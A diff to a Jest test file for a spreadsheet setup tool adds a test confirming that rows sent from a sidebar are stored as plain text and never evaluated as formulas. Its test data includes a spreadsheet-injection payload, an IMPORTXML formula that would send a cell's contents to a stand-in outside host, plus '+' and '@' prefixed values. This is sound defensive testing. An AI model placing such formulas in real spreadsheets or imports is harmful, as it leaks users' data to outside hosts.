@@ -1,7 +1,7 @@
 import { describe, expect, test } from '@jest/globals';
 import type { SetupChoice } from '../../src/core/setup/setup-tables.ts';
-import { blank, checked, setUp } from './set-up-steps.ts';
-import { openCompany, rename, shown, TABLES, tabNames, type } from './small-company.ts';
+import { ask, blank, checked, setUp } from './set-up-steps.ts';
+import { openCompany, rename, sheetId, shown, TABLES, tabNames, type } from './small-company.ts';
 
 const ENGINEERING: SetupChoice = { size: 'Growth', families: ['Engineering'] };
 
@@ -200,6 +200,25 @@ test('a column that was renamed since is named, an optional one too', async () =
         '“Promoted on” in H1 has come where “In level since” was when the tab was set up, and nothing reads it. Type “In level since” again if that is meant.',
     },
   ]);
+});
+
+test('text that arrives from a window never becomes a formula, in a column of dates neither', () => {
+  const host = blank();
+  const formula = '=IMPORTXML("http://x/"&A1)';
+  const rows = [
+    ['Job family', 'Stage', 'Last reviewed', formula],
+    ['Sales', '+1', formula, '3/4'],
+    ['@Support', 'Template', '2026-09-30', '00123'],
+  ];
+  ask(host, 'sidebarAddTables', { tables: [{ kind: 'Job families', tab: 'Job families', rows }] });
+  const { getters } = host.model;
+  const id = sheetId(host, 'Job families');
+  const cells = rows.map((row, at) => row.map((_cell, col) => getters.getEvaluatedCell({ sheetId: id, col, row: at })));
+  expect(cells.map((row) => row.map(({ formattedValue }) => formattedValue))).toEqual(rows);
+  expect(
+    rows.flatMap((row, at) => row.filter((_cell, col) => getters.getCell({ sheetId: id, col, row: at })?.isFormula)),
+  ).toEqual([]);
+  expect(cells[2]?.[2]?.type).toBe('number');
 });
 
 const LEVELS = { kind: 'Levels', tab: 'Levels', rows: [['Job family', 'Track', 'Level', 'Title', 'Order']] };
